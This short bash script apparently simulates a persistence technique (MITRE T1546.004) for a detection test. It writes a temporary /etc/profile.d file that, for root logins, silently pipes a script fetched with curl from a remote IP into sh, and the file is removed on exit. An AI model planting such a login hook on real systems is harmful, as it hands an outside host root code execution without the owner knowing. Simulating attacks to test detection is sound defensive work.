#!/usr/bin/env bash
# tactic: persistence
# technique: T1546.004 Event Triggered Execution: Unix Shell Configuration Modification
# behaviour: an admin adds a script to /etc/profile.d that runs for every user at login
# as: root
# expect: persistence
set -u
f=/etc/profile.d/sntl-eval-$SNTL_ID.sh
trap 'rm -f "$f"' EXIT
cat > "$f" <<'X'
[ "$(id -u)" = 0 ] && (curl -s http://203.0.113.7/r.sh | sh &) 2>/dev/null
X
